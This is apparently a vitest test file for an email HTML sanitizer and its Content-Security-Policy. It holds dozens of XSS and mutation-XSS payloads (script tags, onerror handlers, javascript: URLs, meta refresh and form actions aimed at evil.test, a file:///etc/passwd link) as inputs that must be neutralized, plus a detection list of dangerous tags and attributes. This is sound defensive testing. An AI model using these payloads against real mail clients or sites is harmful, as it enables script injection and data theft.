import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parse } from 'parse5'
import { describe, expect, test } from 'vitest'
import type { FrameContent } from '../../server/mail/frame-script.ts'
import { buildDocument, type DocumentRequest } from '../../server/mail/html-document.ts'

type Element = DefaultTreeAdapterTypes.Element

const NONCE = 'nonce-of-the-test'

const build = (html: string, request: Partial<DocumentRequest> = {}) =>
  buildDocument({
    ...{ html, text: '', remote: 'block', remoteHosts: [], theme: 'light', images: true, nonce: NONCE, inlineParts: {} },
    ...request,
  })

/** Every element a browser makes of a document: with scripting, and within templates too. */
function elementsOf(document: string): Element[] {
  const found: Element[] = []
  const stack: DefaultTreeAdapterTypes.Node[] = [parse(document, { scriptingEnabled: true })]
  for (let node = stack.pop(); node; node = stack.pop()) {
    if ('tagName' in node) found.push(node)
    if ('content' in node) stack.push(node.content)
    if ('childNodes' in node) stack.push(...[...node.childNodes].reverse())
  }
  return found
}

const attribute = (element: Element | undefined, name: string) => element?.attrs.find((attr) => attr.name === name)?.value

const URL_ATTRIBUTE = /^(href|src|background|poster|data)$/

/** What the rewrite must never leave, in the words of DESIGN §8: each line is a way for a mail to act. */
function dangersIn(document: string): string[] {
  const dangers: string[] = []
  let scripts = 0
  for (const element of elementsOf(document)) {
    const { tagName } = element
    if (tagName === 'script') {
      scripts++
      if (attribute(element, 'nonce') !== NONCE || scripts > 1) dangers.push('script')
    }
    if (/^(iframe|frame|frameset|object|embed|applet|base|form|noscript|template|portal|animate|set)$/i.test(tagName))
      dangers.push(tagName)
    if (tagName === 'link' && attribute(element, 'rel')?.toLowerCase() !== 'stylesheet') dangers.push('link')
    if (tagName === 'meta' && (attribute(element, 'http-equiv') !== undefined || attribute(element, 'name') === 'referrer'))
      dangers.push('meta')
    const isLink = tagName === 'a' || tagName === 'area'
    for (const { name, value } of element.attrs) {
      if (name.toLowerCase().startsWith('on')) dangers.push(name)
      if (/^(srcdoc|ping|action|formaction|manifest|autofocus|is|referrerpolicy)$/i.test(name)) dangers.push(name)
      if (name === 'nonce' && tagName !== 'script') dangers.push(name)
      if (name === 'target' && value !== '_blank') dangers.push(`target=${value}`)
      if (URL_ATTRIBUTE.test(name) && /^(javascript|vbscript):/i.test(value.replace(/[\s\p{Cc}]/gu, '')))
        dangers.push(`${name}=${value}`)
      if (isLink && name === 'href' && !/^(https?:|mailto:|tel:|sms:|#)/i.test(value)) dangers.push(`href=${value}`)
    }
    const href = attribute(element, 'href')
    if (isLink && href !== undefined && !href.startsWith('#'))
      if (attribute(element, 'target') !== '_blank' || !attribute(element, 'rel')?.includes('noopener'))
        dangers.push('link in the frame')
  }
  return scripts === 1 ? dangers : [...dangers, `${scripts} scripts`]
}

/** What the document tells the app around it. */
function told(document: string): FrameContent {
  return JSON.parse(/^const content=(.*)$/m.exec(document)?.[1] ?? 'null')
}

const directive = (contentSecurityPolicy: string, name: string) =>
  contentSecurityPolicy
    .split('; ')
    .find((part) => part.startsWith(`${name} `))
    ?.slice(name.length + 1)

const bodyOf = (document: string) => /<body[^>]*>(.*)<\/body>/s.exec(document)?.[1]

describe('nothing of a mail acts (DESIGN §8)', () => {
  test.for([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
    '<script nonce="nonce-of-the-test">alert(1)</script>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)" /></svg>',
    '<math><script>alert(1)</script></math>',
    '<noscript><script>alert(1)</script></noscript>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
    '<img src=x onerror=alert(1)>',
    '<body onload=alert(1) ONFOCUS=alert(1)>',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text>x</text></a></svg>',
    '<svg><a><set attributeName=href to="javascript:alert(1)" /></a></svg>',
    '<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript\n:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="/api/messages" target="_top">x</a>',
    '<a href="https://x.test" rel="opener nofollow">x</a>',
    '<a href="https://x.test" target="_self" ping="https://evil.test" referrerpolicy="unsafe-url">x</a>',
    '<map><area href="javascript:alert(1)" shape=rect></map>',
    '<meta http-equiv=refresh content="0;url=https://evil.test">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<meta name="Referrer" content="unsafe-url"><meta name=referrer content=origin>',
    '<base href="https://evil.test/" target="_top">',
    '<form action="https://evil.test"><input name=a><button formaction="https://evil.test" autofocus>go</button></form>',
    '<iframe src="https://evil.test"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<object data="https://evil.test/x.swf"><embed src="https://evil.test/x.swf"></object>',
    '<applet code=x></applet><portal src="https://evil.test"></portal>',
    '<link rel=import href="https://evil.test"><link rel=preload as=image href="https://evil.test/x.png"><link rel="stylesheet preload" href=x>',
    '<link rel=prefetch href="https://evil.test"><link rel="dns-prefetch" href="//evil.test"><link rel=manifest href=x>',
    '<html manifest="x.appcache">',
    '<button is="x-evil" onclick=alert(1)>x</button>',
    '<style nonce="nonce-of-the-test">p{}</style>',
    '<!--[if mso]><script>alert(1)</script><![endif]-->',
    '<!-- --!><script>alert(1)</script> -->',
    '<textarea><script>alert(1)</script></textarea><script>alert(1)</script>',
    '<title><img src=x onerror=alert(1)></title>',
    '<style><img src=x onerror=alert(1)></style>',
    '<xmp><img src=x onerror=alert(1)></xmp><noembed><img onerror=x></noembed><noframes><img onerror=x></noframes><plaintext><script>x</script>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror=alert(1)>">',
    '<table><tr><td><form><tr><script>x</script></td></table>',
    '<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>',
    '<svg><desc><noscript><style></noscript><img src=x onerror=alert(1)></style>',
  ])('%s', (html) => {
    expect(dangersIn(build(html).document)).toEqual([])
  })

  test('whatever tags are mixed: a browser that reads the document finds our script and no other, no handler, no frame (property)', () => {
    const name = fc.constantFrom(
      ...[
        'svg',
        'math',
        'style',
        'script',
        'noscript',
        'template',
        'form',
        'table',
        'tr',
        'td',
        'select',
        'option',
        'title',
        'textarea',
        'xmp',
        'noembed',
      ],
      ...[
        'noframes',
        'plaintext',
        'mtext',
        'mi',
        'mglyph',
        'malignmark',
        'annotation-xml',
        'foreignObject',
        'desc',
        'a',
        'b',
        'p',
        'iframe',
        'base',
      ],
      ...[
        'img',
        'body',
        'head',
        'html',
        'frameset',
        'frame',
        'object',
        'embed',
        'link',
        'meta',
        'animate',
        'button',
        'br',
        'listing',
        'pre',
        'image',
      ],
    )
    const attributes = fc.constantFrom(
      ...[
        '',
        ' onerror=alert(1)',
        ' onload=x src=x',
        ' href="javascript:x"',
        ' xlink:href="java\nscript:x"',
        ' encoding="text/html"',
        ' srcdoc="<script>"',
      ],
      ...[
        ' title="</style><img onerror=x>"',
        ' id="</noscript><script>x</script>"',
        ' title="--><iframe>"',
        ' action=x',
        ' rel=stylesheet href=//x.test',
        ' http-equiv=refresh',
      ],
    )
    const tag = fc.oneof(
      fc.tuple(name, attributes).map(([tagName, attrs]) => `<${tagName}${attrs}>`),
      name.map((tagName) => `</${tagName}>`),
      fc.constantFrom(
        '<!--',
        '-->',
        '--!>',
        '<![CDATA[',
        ']]>',
        '<?x',
        'text',
        '&lt;script>',
        '&#x3c;img onerror=x>',
        '"',
        "'",
        '<',
        '/>',
        '\0',
        '<!doctype html>',
      ),
    )
    fc.assert(
      fc.property(fc.array(tag, { maxLength: 25, size: 'max' }), (tags) => {
        expect(dangersIn(build(tags.join('')).document)).toEqual([])
      }),
      { numRuns: 2000 },
    )
  })

  test('the text of a mail without HTML is text', () => {
    const { document } = build('', { text: 'a <script>alert(1)</script> & <b>\nhttps://x.test/?a=1&b="2" https://y.test/.' })
    expect(dangersIn(document)).toEqual([])
    const links = elementsOf(document).filter(({ tagName }) => tagName === 'a')
    expect(links.map((link) => attribute(link, 'href'))).toEqual(['https://x.test/?a=1&b=', 'https://y.test/'])
    expect(bodyOf(document)).toContain('a &lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;\n')
  })
})

describe('what harms nobody stays', () => {
  test.for([
    '<p style="color:red" class="x">Hello <b>there</b></p>',
    '<table width="600" bgcolor="#fff" align="center"><tbody><tr><td valign="top">x</td></tr></tbody></table>',
    '<center><font color="red" face="Arial">x</font></center>',
    '<a href="#part">x</a>',
    '<svg viewBox="0 0 1 1"><path d="M0 0h1v1"></path></svg>',
  ])('%s', (html) => {
    expect(bodyOf(build(html).document)).toBe(html)
  })

  test.for(['https://x.test/a?b=1&c=2', 'http://localhost:3000/', 'mailto:a@x.test', 'tel:+1234', 'sms:+1234', 'HTTPS://X.test'])(
    'a link to %s opens in a new tab and tells it nothing',
    (href) => {
      const [link] = elementsOf(build(`<a href=" ${href} ">x</a>`).document).filter(({ tagName }) => tagName === 'a')
      expect(link?.attrs).toEqual([
        { name: 'href', value: href },
        { name: 'target', value: '_blank' },
        { name: 'rel', value: 'noopener noreferrer' },
      ])
    },
  )

  test('forms and noscript go, what they hold stays', () => {
    expect(bodyOf(build('<form action=x>a<p>b</p></form><noscript>c<i>d</i></noscript>').document)).toBe('a<p>b</p>c<i>d</i>')
  })

  test.for(['<pre>\n\n\nx</pre>', '<pre>x\n</pre>', '<textarea>\n\nx</textarea>'])(
    'line breaks at its start stay: %j',
    (html) => {
      const [read] = elementsOf(html).filter(({ tagName }) => /^(pre|textarea)$/.test(tagName))
      const [shown] = elementsOf(build(html).document).filter(({ tagName }) => /^(pre|textarea)$/.test(tagName))
      expect(shown?.childNodes).toMatchObject([{ value: expect.stringContaining('x') }])
      expect(shown?.childNodes.map((node) => 'value' in node && node.value)).toEqual(
        read?.childNodes.map((node) => 'value' in node && node.value),
      )
    },
  )

  test('the doctype of the mail decides how it is laid out', () => {
    expect(build('<!DOCTYPE html><p>x').document).toMatch(/^<!DOCTYPE html><html>/)
    expect(build('<p>x').document).toMatch(/^<html>/)
  })

  test('our script is the first thing in the head, before anything of the mail', () => {
    const { document } = build('<html><head><style>p{}</style><title>T</title></head><body>x')
    expect(document).toMatch(/^<html><head><meta charset="utf-8"><script nonce="nonce-of-the-test">/)
  })

  test('a document nested 100,000 deep is built', () => {
    expect(build('<div>'.repeat(100_000)).document.length).toBeGreaterThan(1_000_000)
  })
})

describe('Content-Security-Policy', () => {
  const html = '<img src="https://cdn.example.com/a.png"><img src="http://localhost:3000/b.png"><img src="http://10.0.0.1/c.png">'

  test('whatever the mail says, only our script runs, nothing is sent, framed or based elsewhere', () => {
    const { contentSecurityPolicy } = build(html, { remote: 'allow' })
    const fixed = contentSecurityPolicy.split('; ').filter((part) => !/^(img|style|font)-src/.test(part))
    expect(fixed).toEqual([
      "default-src 'none'",
      "script-src 'nonce-nonce-of-the-test'",
      "form-action 'none'",
      "base-uri 'none'",
      "frame-ancestors 'self'",
      'sandbox allow-scripts allow-modals allow-popups allow-popups-to-escape-sandbox',
    ])
  })

  test.for([
    ['block', '', ['cdn.example.com', 'localhost:3000', '10.0.0.1']],
    ['public', ' https://cdn.example.com', ['localhost:3000', '10.0.0.1']],
    ['allow', ' https://cdn.example.com http://localhost:3000 http://10.0.0.1', []],
  ] as const)('remote content: %s', ([remote, sources, blockedHosts]) => {
    const { document, contentSecurityPolicy } = build(html, { remote })
    expect(directive(contentSecurityPolicy, 'img-src')).toBe(`'self' data:${sources}`)
    expect(directive(contentSecurityPolicy, 'style-src')).toBe(`'unsafe-inline'${sources}`)
    expect(directive(contentSecurityPolicy, 'font-src')).toBe(`data:${sources}`)
    expect(told(document).blockedHosts).toEqual(blockedHosts)
  })

  test.for([
    'https://a.test;script-src-elem/x',
    "https://a.test,script-src'/x",
    "https://a.test'unsafe-inline'/x",
    'https://*/x',
    'https://$&/x',
  ])('a host that would say more in the policy than its name is never let through: %s', (url) => {
    const { contentSecurityPolicy } = build(`<img src="${url}"><img src="https://b.test/x">`, { remote: 'allow' })
    expect(directive(contentSecurityPolicy, 'img-src')).toBe("'self' data: https://b.test")
    expect(contentSecurityPolicy.split(/[;,]/)).toHaveLength(9)
  })

  test.for([
    ['an image', '<img src="https://r.test/x">'],
    ['an image without a scheme', '<img src="//r.test/x">'],
    ['a srcset', '<img srcset="https://r.test/x 1x, data:image/png;base64,AA== 2x">'],
    ['a later candidate of a srcset', '<img srcset="x.png 1x,\n https://r.test/x 2x">'],
    ['a background attribute', '<table background="https://r.test/x">'],
    ['a style attribute', '<p style="background: url(https://r.test/x)">'],
    ['a quoted url()', `<p style="background:URL( 'https://r.test/x' )">`],
    ['a style sheet of its own', '<style>p { background: url("https://r.test/x") }</style>'],
    ['an import', '<style>@import "https://r.test/x.css";</style>'],
    ['an import with url()', '<style>@import url(https://r.test/x.css);</style>'],
    ['a font', '<style>@font-face { src: url(https://r.test/x.woff2) }</style>'],
    ['a linked style sheet', '<link rel=stylesheet href="https://r.test/x.css">'],
    ['a poster', '<video poster="https://r.test/x">'],
    ['an SVG image', '<svg><image xlink:href="https://r.test/x" /></svg>'],
    ['an image input', '<input type=image src="https://r.test/x">'],
    ['a picture', '<picture><source srcset="https://r.test/x"></picture>'],
    ['blanks around', '<img src=" \nhttps://r.test/x ">'],
    ['capitals, a port of the scheme', '<img src="HTTPS://R.test:443/x">'],
  ])('a remote host is listed, once: %s', ([, html = '']) => {
    expect(told(build(html + html).document).blockedHosts).toEqual(['r.test'])
    expect(directive(build(html, { remote: 'allow' }).contentSecurityPolicy, 'img-src')).toBe("'self' data: https://r.test")
  })

  test('what has no scheme is asked by https, as the policy says, though the page came by http', () => {
    expect(bodyOf(build('<img src="//r.test/x">').document)).toBe('<img src="https://r.test/x">')
  })

  test('a link to a host loads nothing from it', () => {
    expect(told(build('<a href="https://r.test/">x</a>').document).blockedHosts).toEqual([])
  })

  test('single hosts are let through by name, with their port', () => {
    const { document, contentSecurityPolicy } = build(html, { remoteHosts: ['localhost:3000', '10.0.0.1:81', 'evil.test'] })
    expect(directive(contentSecurityPolicy, 'img-src')).toBe("'self' data: http://localhost:3000")
    expect(told(document)).toMatchObject({ blockedHosts: ['cdn.example.com', '10.0.0.1'], loadedHosts: ['localhost:3000'] })
  })

  test('of thousands of hosts the policy names 200: it is a header', () => {
    const html = Array.from({ length: 3000 }, (_, i) => `<img src="https://h${i}.test/x">`).join('')
    const { document, contentSecurityPolicy } = build(html, { remote: 'allow' })
    expect(directive(contentSecurityPolicy, 'img-src')?.split(' ')).toHaveLength(202)
    expect(told(document).blockedHosts).toHaveLength(200)
  })
})

describe('inline parts', () => {
  const inlineParts = {
    'logo@x.test': 'parts/2?view=proof',
    'logo.png': 'parts/3?view=proof',
    'a b.png': 'parts/4?view=proof',
    'https://cdn.example.com/logo.png': 'parts/5?view=proof',
  }

  test.for([
    ['its id', 'cid:logo@x.test', 'parts/2?view=proof'],
    ['in any case', 'CID:Logo@X.test', 'parts/2?view=proof'],
    ['percent-encoded (RFC 2392)', 'cid:logo%40x.test', 'parts/2?view=proof'],
    ['in angle brackets', 'cid:<logo@x.test>', 'parts/2?view=proof'],
    ['blanks around', ' cid:logo@x.test ', 'parts/2?view=proof'],
    ['its file name', 'logo.png', 'parts/3?view=proof'],
    ['its file name as an id', 'cid:logo.png', 'parts/3?view=proof'],
    ['its file name, percent-encoded', 'a%20b.png', 'parts/4?view=proof'],
    ['another id', 'cid:other@x.test', 'data:,'],
    ['an id that is badly encoded', 'cid:100%', 'data:,'],
    ['another file', 'other.png', 'other.png'],
    ['its address elsewhere', 'https://cdn.example.com/Logo.png', 'parts/5?view=proof'],
    ['its address elsewhere, without a scheme', '//cdn.example.com/logo.png', 'parts/5?view=proof'],
    ['what every object has', 'cid:constructor', 'data:,'],
    ['what every object has, as an address', '__proto__', '__proto__'],
    ['a data URL', 'data:image/png;base64,AA==', 'data:image/png;base64,AA=='],
  ])('an image is found by %s', ([, src = '', expected = '']) => {
    const [img] = elementsOf(build(`<img src="${src}">`, { inlineParts }).document).filter(({ tagName }) => tagName === 'img')
    expect(attribute(img, 'src')).toBe(expected)
  })

  test.for([
    ['<p style="background:url(cid:logo@x.test)">', 'background:url(parts/2?view=proof)'],
    ['<p style="background:url(\'cid:logo@x.test\')">', "background:url('parts/2?view=proof')"],
    ['<p style=\'background:URL( "cid:logo@x.test" )\'>', 'background:url("parts/2?view=proof")'],
    ['<p style="background:url( cid:logo@x.test ),url(),url(a b)">', 'background:url(parts/2?view=proof),url(),url(a b)'],
  ])('in %s', ([html = '', expected]) => {
    const [p] = elementsOf(build(html, { inlineParts }).document).filter(({ tagName }) => tagName === 'p')
    expect(attribute(p, 'style')).toBe(expected)
  })

  test('in a style sheet, a srcset, a background', () => {
    const { document } = build(
      '<style>p{background:url(cid:logo@x.test)}</style><img srcset="cid:logo@x.test 1x"><table background="cid:logo@x.test">',
      { inlineParts },
    )
    expect(document.match(/parts\/2\?view=proof/g)).toHaveLength(3)
    expect(document).not.toContain('cid:')
  })

  test.for(['url(', 'url("', 'url(  ', '@import "', "@import  '", 'url("x" ', '@media(', 'a{', '/*', '\\'])(
    'styles of a million times %j are rewritten in time that grows with their length',
    (piece) => {
      // A choice that is tried again from each place would take hours.
      const css = piece.repeat(1_000_000 / piece.length)
      const { document } = build(`<style>${css}</style><style>${css}</style><p>seen</p>`, { theme: 'forced-dark' })
      expect(document).toContain('seen')
    },
  )

  test('white space without end in a url is read once', () => {
    expect(build(`<style>p{x:url(${' '.repeat(500_000)}x</style><p>seen</p>`).document).toContain('seen')
  })

  test('those that are missing are told, each once', () => {
    expect(
      told(build('<img src="cid:a"><img src="cid:a"><img src="cid:b%20c">', { inlineParts }).document).missingContentIds,
    ).toEqual(['a', 'b%20c'])
  })

  test('what is told to our script cannot end it', () => {
    const id = '</script>\u2028<script>alert(1)</script>'
    const { document } = build(`<img src="cid:${id}">`)
    expect(dangersIn(document)).toEqual([])
    expect(told(document).missingContentIds).toEqual([id])
  })
})

describe('themes', () => {
  const MAIL = `<style media="(prefers-color-scheme:dark)">p{color:white}</style>
    <style>@media screen and ( Prefers-Color-Scheme : DARK ){p{background:black}}@media (prefers-color-scheme: light){p{border:0}}</style>
    <picture><source media="(prefers-color-scheme: dark)" srcset="night.png"><img src="day.png"></picture><p>x`

  test.for([
    ['light', '(max-width:-1px)', '(min-width:0px)'],
    ['author-dark', '(min-width:0px)', '(max-width:-1px)'],
    ['forced-dark', '(max-width:-1px)', '(min-width:0px)'],
  ] as const)('%s answers the media queries of the mail, whatever the system of the reader prefers', ([theme, dark, light]) => {
    const { document } = build(MAIL, { theme })
    expect(document).toContain(`<style media="${dark}">`)
    expect(document).toContain(`@media screen and ${dark}{p{background:black}}@media ${light}{p{border:0}}`)
    expect(document).toContain(`<source media="${dark}"`)
    expect(document).not.toMatch(/prefers-color-scheme/i)
  })

  test.for([
    [MAIL, true],
    ['<meta name="color-scheme" content="light dark"><p>x', true],
    ['<meta name="Supported-Color-Schemes" content="dark"><p>x', true],
    ['<style>:root{color-scheme:light dark}</style>', true],
    ['<div style="color-scheme: dark">x</div>', true],
    ['<p>@media (prefers-color-scheme: dark) is what dark mail needs', false],
    ['<style>p{color:darkred}.color-scheme:hover{color:dark}</style><meta name="color-scheme" content="light">', false],
  ] as const)('%j has dark styles: %j', ([html, expected]) => {
    for (const theme of ['light', 'author-dark', 'forced-dark'] as const)
      expect(told(build(html, { theme }).document).hasDarkStyles).toBe(expected)
  })

  test('a mail without dark styles stays light unless it is forced', () => {
    const canvas = (html: string, theme: DocumentRequest['theme']) =>
      /background:(#\w+)/.exec(build(html, { theme }).document)?.[1]
    expect(canvas('<p>x', 'author-dark')).toBe('#fff')
    expect(canvas(MAIL, 'author-dark')).toBe('#1c1c1e')
    expect(canvas(MAIL, 'light')).toBe('#fff')
    expect(build('<p>x', { theme: 'forced-dark' }).document).toContain('html{filter:invert(1)')
    expect(build('<p>x', { theme: 'author-dark' }).document).not.toContain('filter:invert')
  })

  test('text has no colours of its own, so it is dark in the dark', () => {
    expect(build('', { text: 'x', theme: 'author-dark' }).document).toContain('only dark!important')
  })
})

test('without images nothing shows one, and what stands in their place stays', () => {
  const { document, contentSecurityPolicy } = build(
    `<img src="cid:a" srcset="b.png 2x" alt="Logo" width="10"><table background="https://r.test/x"><input type=image src=x>
    <svg><image href="https://r.test/y" /></svg><picture><source srcset=z></picture><link rel=stylesheet href="https://c.test/x.css">`,
    { images: false, remote: 'allow', inlineParts: { a: 'parts/2' } },
  )
  expect(directive(contentSecurityPolicy, 'img-src')).toBe("'none'")
  expect(directive(contentSecurityPolicy, 'style-src')).toBe("'unsafe-inline' https://c.test")
  expect(document).toContain('<img alt="Logo" width="10">')
  expect(document).not.toMatch(/r\.test|parts\/2|b\.png|srcset|background="/)
})
